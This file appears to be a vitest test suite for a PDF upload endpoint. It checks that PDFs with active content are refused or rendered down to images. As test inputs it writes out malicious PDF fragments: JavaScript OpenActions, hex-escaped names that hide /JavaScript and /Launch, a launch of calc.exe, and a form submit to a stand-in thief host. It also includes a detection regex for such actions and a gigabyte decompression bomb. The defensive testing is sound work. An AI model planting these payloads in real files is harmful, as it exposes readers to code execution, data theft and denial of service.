import { deflateSync } from 'node:zlib';
import { describe, expect } from 'vitest';
import { pdfOf, pdfOfCompressedCatalog } from '../support/pdfs.ts';
import { test } from './fixture.ts';

// A PDF is kept as pictures of its pages: whatever it can do stays behind.

const SCRIPT = '/OpenAction<</S/JavaScript/JS(app.alert(1))>>';
/** Everything that a document can do besides showing its pages. */
const CAN_ACT =
  /JavaScript|OpenAction|\/AA|Launch|SubmitForm|ImportData|GoTo|URI|RichMedia|Embedded|XFA|AcroForm|Annots|#[0-9a-f]{2}/i;

const FONT = '<</Type/Font/Subtype/TrueType/BaseFont/Arial/Encoding<</Differences[192/uni0410/uni0411]>>>>';

describe('a pdf that acts by name is refused', () => {
  test.for([
    ['a script', pdfOf({ catalog: SCRIPT })],
    ['a script with an escaped letter', pdfOf({ catalog: SCRIPT.replace('/JavaScript', '/J#61vaScript') })],
    ['a program to start, all escaped', pdfOf({ catalog: '/Open#41ction<</S/L#61unch/F(calc.exe)>>' })],
    ['a form that is sent', pdfOf({ page: '/AA<</O<</S/SubmitForm/F(https://thief.example)>>>>' })],
    ['data that is fetched', pdfOf({ catalog: '/OpenAction<</S/ImportData/F(x.fdf)>>' })],
    ['another document that is opened', pdfOf({ catalog: '/OpenAction<</S/GoToR/F(x.pdf)/D[0/Fit]>>' })],
    ['one inside of it that is opened', pdfOf({ catalog: '/OpenAction<</S/GoToE/T<</R/C>>>>' })],
    ['files in it', pdfOf({ catalog: '/Names<</EmbeddedFiles<</Names[]>>>>' })],
  ] as const)('%s', async ([, bytes], { upload }) => {
    const { status, body } = await upload(bytes, 'x.pdf');
    expect([status, body.errors]).toEqual([400, { photo: ['Файл повреждён'] }]);
  });
});

describe('what no name in the file tells stays behind', () => {
  test.for([
    ['a script in a compressed catalog', pdfOfCompressedCatalog(SCRIPT)],
    ['a program in a compressed catalog', pdfOfCompressedCatalog('/OpenAction<</S/Launch/F(calc.exe)>>')],
    ['a form', pdfOf({ catalog: '/AcroForm<</Fields[]/XFA()>>' })],
    [
      'a link',
      pdfOf({ page: '/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://x.example)>>>>]' }),
    ],
    ['a view to open with', pdfOf({ catalog: '/OpenAction[3 0 R/Fit]' })],
    ['a comment', pdfOf({ content: '20 20 50 50 re f % <script>' })],
  ] as const)('%s', async ([, bytes], { upload, photo, open }) => {
    expect((await upload(bytes, 'чек.pdf')).status).toBe(200);
    const { url, name } = await photo();
    expect(name).toBe('чек.pdf');
    const { rawPayload, headers } = await open(url);
    expect(headers['content-type']).toBe('application/pdf');
    const text = rawPayload.toString('latin1');
    expect(text).toMatch(/^%PDF-1\.4/);
    // All that is not the picture.
    const around = text.replace(/\/DCTDecode .*?endstream/s, '');
    expect(around).not.toMatch(CAN_ACT);
    expect(around.match(/\/Type \/\w+/g)).toEqual(['/Type /Catalog', '/Type /Pages', '/Type /Page', '/Type /XObject']);
    expect(text).not.toContain('<script>');
    // A reader opens it, and so do we.
    expect((await upload(rawPayload, 'again.pdf')).status).toBe(200);
  });
});

describe('a pdf that cannot be drawn is refused with a sentence', () => {
  const megabytes = (n: number, text: string) => deflateSync(Buffer.alloc(n * 1024 ** 2, text), { level: 9 });
  test.for([
    [
      'locked by a password',
      pdfOf({
        objects: [`<</Filter/Standard/V 1/R 2/Length 40/P -4/O<${'00'.repeat(32)}>/U<${'11'.repeat(32)}>>>`],
        trailer: '/Encrypt 5 0 R/ID[<00><00>]',
      }),
      /паролем/,
    ],
    [
      'no pages',
      pdfOf().subarray(0, -1).toString('latin1').replace('/Count 1', '/Count 0').replace('[3 0 R]', '[]'),
      /ни одной страницы|повреждён/,
    ],
    [
      'letters without their font',
      pdfOf({
        content: 'BT /F 24 Tf 20 100 Td <C0C1> Tj ET',
        page: `/Resources<</Font<</F 5 0 R>>>>`,
        objects: [FONT],
      }),
      /шрифтов/,
    ],
    [
      'a page that inflates to a gigabyte of lines',
      pdfOf({ filter: '/Filter/FlateDecode', encoded: megabytes(700, '0 0 m 1 1 l S\n') }),
      /повреждён/,
    ],
  ] as const)('%s', async ([, bytes, sentence], { upload, open }) => {
    const { status, body } = await upload(Buffer.from(bytes), 'x.pdf');
    expect([status, body.errors?.['photo']?.[0]]).toEqual([400, expect.stringMatching(sentence)]);
    expect((await open('/live')).statusCode).toBe(200);
  });
});
